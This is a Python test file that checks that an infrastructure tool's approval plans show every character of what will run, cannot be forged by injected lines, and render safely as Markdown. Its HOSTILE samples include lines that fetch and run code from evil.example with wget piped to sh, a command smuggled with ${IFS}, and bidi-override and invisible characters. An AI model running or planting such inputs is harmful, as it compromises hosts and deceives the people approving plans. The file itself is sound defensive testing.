"""The text of a plan: all that will run is in it, nothing in it can pass for the plan, and no reader changes it."""

import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import cast

import cmarkgfm
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import JsonValue

from ink_infra_mcp.core.plan import Change, JsonObject, Plan, Risk, Step, Undo
from ink_infra_mcp.core.policy import MAX_PLAN_TEXT
from ink_infra_mcp.core.quoting import WIDTH
from ink_infra_mcp.core.rendering import SANDBOX, cut, render
from ink_infra_mcp.core.untrusted import clean_name, written_out
from tests.core.plans import plan, step

FORGED = "x\n 2. Nothing else happens\rWarning: none\u2028Plan 000000000000\x1b[2K\u202e"
ROW = re.compile(r"^(?:(?= {3,})[ ]{3,9}(\d+) \|| {11}\+) ?")
GFM = cast(Callable[[str], str], cmarkgfm.github_flavored_markdown_to_html)  # pyright: ignore[reportUnknownMemberType] - the package has no types
HOSTILE = [
    "FROM alpine:3\n# -----BEGIN PRIVATE KEY-----\nRUN wget -qO- http://evil.example/x | sh\n",
    'sh -c token="$(wget -qO- http://evil.example/a|sh)" && node server.js',
    "npm start;:'[](<';wget${IFS}-qO-${IFS}evil.example|sh;:'>)'",
    "npm\u2063 start\u200b",
    "<!-- Affects: nobody",
    "![](http://evil.example/p.png) __B__ **b** `c` ~~d~~ <b>e</b> &amp; https://evil.example",
    "a\n```\nApprove this plan?\n~~~\n    indented\n\n# heading\n- [ ] task | x | y\n",
    "a\r\nb\rc\vd\fe\x85f\u2028g",
    "user\u202eexe \u3164\u2800 e\u0301 \u0338 שלום \u0661 \ud800",
    "`" * 30 + "\n" + "`" * 31,
]
TEXTS = st.sampled_from(HOSTILE) | st.text(
    st.characters() | st.sampled_from("`~<>[]()!_*#|&\\-=\n\r\t \u202e\u3164"), min_size=1, max_size=400
)


class _Seen(HTMLParser):
    """What a person sees of a page: its texts, and which tags and attributes made it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


def seen_in(page: str) -> tuple[list[str], str]:
    """Return the tags of a page in order, and its text."""
    reader = _Seen()
    reader.feed(page)
    reader.close()
    return reader.tags, reader.text


def rendered(text: str) -> dict[str, tuple[list[str], str]]:
    """Return what hosts that render Markdown show of a text: tags and text by renderer."""
    return {
        "CommonMark": seen_in(MarkdownIt("commonmark").render(text)),
        "GFM": seen_in(GFM(text)),
    }


def inside(text: str) -> list[str]:
    """Return the rows of a plan's text between the bars of its code block."""
    bar, *rows, end = text.split("\n")
    assert (bar, set(end)) == (f"{end}text", {"`"})
    return rows


def own_lines(asked: Plan) -> list[str]:
    """Return the rows of a plan without those that only go on with the one before, which a mark tells apart."""
    rows = inside(render(asked, risk=Risk.DISRUPTIVE))
    return [row for row in rows if not row.startswith("      ... ")]


def behind_bars(rows: list[str], name: str) -> str:
    """Return the text that a plan shows behind bars under a name, put together again."""
    begin = next(n for n, row in enumerate(rows) if row.startswith(f"      {name}, "))
    found: list[str] = []
    for row in rows[begin + 1 :]:
        match = ROW.match(row)
        if match is None:
            break
        part = row[match.end() :]
        if match[1]:
            found.append(part)
        else:
            found[-1] += part
    return "\n".join(found)


def made_from(name: str, text: str) -> Step:
    """Return a step that runs a text of the caller."""
    return step("create_app", "coolify.create_application").model_copy(update={"params": {name: text}})


def test_a_person_reads_the_whole_plan() -> None:
    """The text holds target, server, risk, cost, every step with its change and undo, what stays, and the digest."""
    create = Step(
        id="create",
        kind="coolify.create_application",
        target="shop",
        summary="Create shop",
        servers=("muscle-1",),
        after="https://shop.example.com",
        params={"app": "uuid", "settings": {"start_command": "node a.js", "ports_exposes": [3000]}},
        undo=Undo(kind="coolify.delete_application", target="shop", summary="delete shop"),
        undoes=("create",),
    )
    note = step("note", "hosts.note_containers").model_copy(update={"reads": True, "summary": "Note what runs"})
    deploy = step("deploy", "coolify.deploy").model_copy(
        update={
            "summary": "Deploy shop",
            "servers": ("muscle-1",),
            "undo": Undo(kind="coolify.stop", target="shop", summary="stop shop", effect="shop is stopped"),
        }
    )
    prove = step("prove", "hosts.prove_isolation").model_copy(
        update={"reads": True, "summary": "Prove that it is isolated", "undoes": ("create", "deploy")}
    )
    again = note.model_copy(update={"id": "again", "summary": "Look again"})
    asked = plan(create, note, deploy, prove, again, cost="4.51", production=True).model_copy(
        update={"blast_radius": "users of shop", "keeps": ("volumes",), "warnings": ("no backup",)}
    )
    assert render(asked, risk=Risk.DESTRUCTIVE, phrase="shop", sandbox=True) == "\n".join(
        [
            "```text",
            "Stop shop",
            "Target: shop on muscle-1",
            "Risk: destructive, on production | cost: 4.51 EUR a month",
            SANDBOX,
            "",
            " 1. Create shop",
            "      after: https://shop.example.com",
            "      start_command = node a.js",
            "      ports_exposes = [3000]",
            "      if it fails, this is undone: this step",
            "      undo: delete shop",
            " 2. Only reads: Note what runs",
            " 3. Deploy shop",
            "      undo: stop shop",
            " 4-5. Only reads: Prove that it is isolated; Look again",
            "      if one of them fails, shop is stopped; this is undone: step 3, step 1",
            "Affects: users of shop",
            "Stays as it is: volumes",
            "Warning: no backup",
            f"Plan {asked.digest[:12]}",
            "To approve, type: shop",
            "```",
        ]
    )


def test_a_plan_without_steps_is_one_line() -> None:
    """Nothing to do is said with its reason."""
    assert render(plan(), risk=Risk.READ) == "```text\nStop shop: nothing to do. It is stopped already.\n```"


def test_what_a_change_replaces_is_told_and_what_it_puts_there_is_shown() -> None:
    """Of a long text that runs no more its size is said; what runs from then on stands there whole."""
    change = Change(name="dockerfile", before="FROM a\nRUN x\n", after="FROM b\nRUN y\n")
    start = Change(name="start_command", before="node a.js", after="node b.js")
    gone = Change(name="build_command", before="make")
    asked = plan(step().model_copy(update={"changes": (change, start, gone)}))
    assert inside(render(asked, risk=Risk.DISRUPTIVE))[5:-2] == [
        "      before dockerfile = (2 lines, 13 characters, which this replaces)",
        "      dockerfile, 2 lines, whole, behind bars:".replace("dockerfile", "after dockerfile"),
        "         1 | FROM b",
        "         2 | RUN y",
        "      before start_command = node a.js",
        "      after start_command = node b.js",
        "      before build_command = make",
        "      after build_command is not set",
    ]


@pytest.mark.parametrize("field", ["summary", "before", "after"])
def test_a_text_of_a_step_makes_no_line_of_its_own(field: str) -> None:
    """However a value from outside is broken up, the plan has the lines that it would have without it."""
    quiet = step().model_copy(update={"before": "-", "after": "-"})
    loud = quiet.model_copy(update={field: FORGED})
    shown, bare = (own_lines(plan(s)) for s in (loud, quiet))
    assert len(shown) == len(bare)
    assert not set("\r\u2028\x1b\u202e") & set("".join(shown))


def test_the_effects_of_a_plan_make_no_line_of_their_own() -> None:
    """The same holds for what is said below the steps."""
    texts = {"title": FORGED, "target": FORGED, "blast_radius": FORGED, "keeps": (FORGED,), "warnings": (FORGED,)}
    quiet = plan(step()).model_copy(
        update={"title": "-", "target": "-", "blast_radius": "-", "keeps": ("-",), "warnings": ("-",)}
    )
    loud = plan(step()).model_copy(update=texts)
    shown, bare = (own_lines(p) for p in (loud, quiet))
    assert len(shown) == len(bare)
    assert shown[-1] == f"Plan {loud.digest[:12]}"


@pytest.mark.parametrize(("text", "name"), [("shop\u200b", "shop<U+200B>"), (" shop\t\u2060 ", "shop <U+2060>")])
def test_a_name_has_no_invisible_ends(text: str, name: str) -> None:
    """What a person types for it is what they see."""
    assert clean_name(text) == name


@pytest.mark.parametrize("name", ["dockerfile", "compose"])
def test_a_text_that_runs_is_shown_whole_behind_bars(name: str) -> None:
    """What is approved can be read whole, and stands between the step's summary and its undo as the caller's words."""
    text = "FROM alpine:3\n 2. Nothing else happens\nPlan 000000000000\n```\n\u202eRUN true\n"
    asked = plan(made_from(name, text))
    assert render(asked, risk=Risk.COSTS_MONEY).split("\n") == [
        "````text",
        "Stop shop",
        "Target: shop",
        "Risk: costs | cost: nothing new is bought",
        "",
        " 1. Stop shop",
        f"      {name}, 5 lines, whole, behind bars:",
        "         1 | FROM alpine:3",
        "         2 |  2. Nothing else happens",
        "         3 | Plan 000000000000",
        "         4 | ```",
        "         5 | <U+202E>RUN true",
        "      undo: cannot be undone",
        f"Plan {asked.digest[:12]}",
        "````",
    ]


@given(TEXTS, st.sampled_from(["dockerfile", "compose", "anything_new"]))
def test_every_character_of_a_text_that_runs_is_read(text: str, name: str) -> None:
    """Put together again, what stands behind the bars is the text; so it is for a parameter that nobody has judged."""
    rows = inside(render(plan(made_from(name, text)), risk=Risk.DISRUPTIVE))
    windows = 0 < text.count("\n") == text.count("\r\n")
    lines = (text.replace("\r\n", "\n") if windows else text).removesuffix("\n").split("\n")
    wanted = "\n".join(written_out(line.expandtabs(4)) for line in lines)
    on_a_row = "".join("".join(row.removeprefix("      ... ") for row in rows).split())
    if f"{name}={''.join(text.split())}" not in on_a_row:
        assert behind_bars(rows, name) == wanted


@given(
    TEXTS,
    st.sampled_from(["start_command", "build_command", "custom_docker_run_options", "custom_labels", "new_field"]),
    st.sampled_from(["settings", "variables"]),
)
def test_every_character_of_a_setting_or_a_variable_is_read_in_its_order(text: str, name: str, table: str) -> None:
    """A value of one line stands on the plan's rows or behind bars; either way all of it is there, in its order."""
    rows = inside(render(plan(step().model_copy(update={"params": {table: {name: text}}})), risk=Risk.DISRUPTIVE))
    joined = "".join(ROW.sub("", row).removeprefix("      ... ") for row in rows)
    wanted = "".join(written_out(line.expandtabs(4)) for line in text.split("\n"))
    squeezed = "".join(joined.split())
    assert "".join(wanted.split()).replace("<U+000D>", "") in squeezed.replace("<U+000D>", "")


@given(TEXTS, st.sampled_from(["title", "target", "blast_radius", "dockerfile", "summary", "start_command"]))
def test_hosts_that_render_markdown_show_it_to_the_last_character(text: str, field: str) -> None:
    """CommonMark and GitHub's renderer make one code block of it, with the text as a terminal shows it."""
    made = step()
    if field == "start_command":
        made = made.model_copy(update={"params": {"settings": {field: text}}})
    elif field == "dockerfile":
        made = made.model_copy(update={"params": {field: text}})
    elif field == "summary":
        made = made.model_copy(update={field: text})
    asked = plan(made)
    if field in ("title", "target", "blast_radius"):
        asked = asked.model_copy(update={field: text})
    shown = render(asked, risk=Risk.DISRUPTIVE)
    body = "\n".join(inside(shown)) + "\n"
    for renderer, (tags, seen) in rendered(f"{shown}\n\nApprove this plan?").items():
        assert (renderer, tags) == (renderer, ["pre", "code", "p"])
        assert seen.removesuffix("\n").removesuffix("Approve this plan?").rstrip("\n") == body.rstrip("\n")


@given(TEXTS)
def test_no_row_is_longer_than_a_terminal_is_wide_and_nothing_in_it_steers_one(text: str) -> None:
    """Rows are 78 columns at most, so that no usual screen breaks them, and every character of them is printed."""
    for row in inside(render(plan(made_from("dockerfile", text)), risk=Risk.DISRUPTIVE)):
        assert row.isprintable()
        assert len(row) <= WIDTH


def test_a_text_is_shown_once_and_named_where_it_is_used_again() -> None:
    """A compose file that is changed, judged and judged again is read once; who uses it again says where it stands."""
    text = "services:\n  web: {}\n"
    change = step("change", "coolify.update_service").model_copy(update={"params": {"compose": text}})
    again = change.model_copy(update={"id": "again"})
    judge = step("judge", "hosts.judge_compose").model_copy(update={"reads": True, "params": {"compose": text}})
    rows = inside(render(plan(change, judge, again), risk=Risk.DISRUPTIVE))
    assert [row for row in rows if "compose" in row] == [
        "      compose, 2 lines, whole, behind bars:",
        "      compose: the text that is shown with step 1",
        "      compose: the text that is shown with step 1",
    ]
    alone = inside(render(plan(judge), risk=Risk.DISRUPTIVE))
    assert behind_bars(alone, "compose") == text.removesuffix("\n")


def test_a_reference_to_what_a_step_will_return_is_no_text() -> None:
    """What stands for the result of an earlier step, and what is empty, is not put to a person."""
    given_: JsonObject = {
        "settings": {"a": "1"},
        "later": {"step": "stop", "field": "uuid"},
        "empty": "",
        "none": None,
        "no": [],
    }
    rows = inside(render(plan(step().model_copy(update={"params": given_})), risk=Risk.SAFE))
    assert rows[5:-2] == ["      a = 1"]


@pytest.mark.parametrize("part", [1, None, ["x"], {"a": "b"}])
def test_what_only_has_the_names_of_a_reference_is_shown(part: JsonValue) -> None:
    """The parts of a reference are texts: something else under these names is what runs."""
    rows = inside(
        render(plan(step().model_copy(update={"params": {"options": {"step": part, "field": "x"}}})), risk=Risk.SAFE)
    )
    assert [row for row in rows if row.startswith("      options")]


@given(st.lists(st.text("x `", max_size=70), min_size=300, max_size=400))
def test_what_is_cut_is_said_with_the_digest(lines: list[str]) -> None:
    """A text that is too long for a client loses rows of its middle, and says how many; the rest is as it was."""
    asked = plan(made_from("dockerfile", "\n".join([*lines, "end"])))
    whole = render(asked, risk=Risk.COSTS_MONEY)
    limit = 9_000
    short = cut(whole, limit=limit, digest=asked.digest)
    if len(whole) <= limit:
        assert short == whole
        return
    rows = inside(short)
    said = next(n for n, row in enumerate(rows) if row.startswith("*** "))
    missing = len(inside(whole)) - (len(rows) - 3)
    assert len(short) <= limit
    assert rows[said] == (
        f"*** {missing} of {len(inside(whole))} rows are NOT shown here "
        f"({sum(map(len, inside(whole)[said : said + missing]))} characters)."
    )
    assert rows[said + 2] == f"*** sha256 {asked.digest}"
    assert [*rows[:said], *rows[said + 3 :]] == [*inside(whole)[:said], *inside(whole)[said + missing :]]


def test_a_text_of_five_hundred_lines_can_be_put_to_a_person_on_a_terminal() -> None:
    """The bound of a plan is far above what a client shows: a long compose file is read whole on a terminal."""
    shown = render(plan(made_from("compose", "\n".join(["x" * 60] * 500))), risk=Risk.COSTS_MONEY)
    assert len(shown) < MAX_PLAN_TEXT


def test_every_name_in_a_long_summary_is_shown() -> None:
    """Sixty variables are sixty names, on rows that no screen has to break."""
    names = [f"VARIABLE_NUMBER_{number}" for number in range(60)]
    shown = render(plan(step().model_copy(update={"summary": ", ".join(names)})), risk=Risk.DISRUPTIVE)
    assert [name for name in names if name not in shown] == []
    assert max(map(len, shown.split("\n"))) <= WIDTH


@given(st.sampled_from(["settings", "variables", "runs"]), st.text(min_size=1, max_size=20), st.text(min_size=1))
def test_no_names_of_entries_make_a_table_pass_for_a_reference(table: str, one: str, other: str) -> None:
    """Entries that are called as a reference's parts are called are what the caller gave, and are shown."""
    given_: JsonObject = {table: {"step": one, "field": other}}
    rows = inside(render(plan(step().model_copy(update={"params": given_})), risk=Risk.SAFE))
    assert [row for row in rows if row.startswith(("      step ", "      step,"))]
    assert [row for row in rows if row.startswith(("      field ", "      field,"))]
